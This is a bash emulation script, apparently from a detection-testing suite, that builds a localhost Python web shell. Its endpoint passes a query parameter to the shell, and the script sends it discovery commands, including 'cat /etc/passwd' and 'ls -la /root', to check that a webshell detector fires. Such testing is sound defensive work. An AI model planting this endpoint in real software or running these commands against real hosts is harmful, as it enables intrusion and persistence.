#!/bin/bash
# vigil-emulation: attack
# technique: T1505.003 Server Software Component: Web Shell
# tactic: persistence, execution, initial-access
# what: a small Python web application on 127.0.0.1 with a "diagnostics" endpoint that
#   passes the `c` query parameter to a shell (subprocess with shell=True), as a planted
#   webshell does; the scenario sends `id`, `uname -a`, `cat /etc/passwd` and
#   `ls -la /root` to it over real HTTP requests.
# report: a webshell: a shell spawned by a process serving HTTP (it accepted the
#   connection on its listening socket) running discovery commands from the request.
# expect: webshell|web shell
. "${EMUL_LIB:-$(dirname "$0")/../lib}/common.sh"
emul_need curl

emul_tmpdir
app=$EMUL_DIR/app.py
cat >"$app" <<'PY'
import subprocess, sys, urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

class App(BaseHTTPRequestHandler):
    def do_GET(self):
        q = urllib.parse.parse_qs(urllib.parse.urlparse(self.path).query)
        out = b"ok\n"
        if "c" in q:
            out = subprocess.run(q["c"][0], shell=True, capture_output=True).stdout
        self.send_response(200)
        self.send_header("Content-Length", str(len(out)))
        self.end_headers()
        self.wfile.write(out)

srv = ThreadingHTTPServer(("127.0.0.1", 0), App)
open(sys.argv[1], "w").write(str(srv.server_address[1]))
srv.serve_forever()
PY
: >"$EMUL_DIR/port"
emul_bg "$PY" "$app" "$EMUL_DIR/port"
port=$(emul_ready "$EMUL_DIR/port")
for c in id "uname -a" "cat /etc/passwd" "ls -la /root"; do
    curl -s --get --data-urlencode "c=$c" "http://127.0.0.1:$port/diag"
    sleep 0.3
done
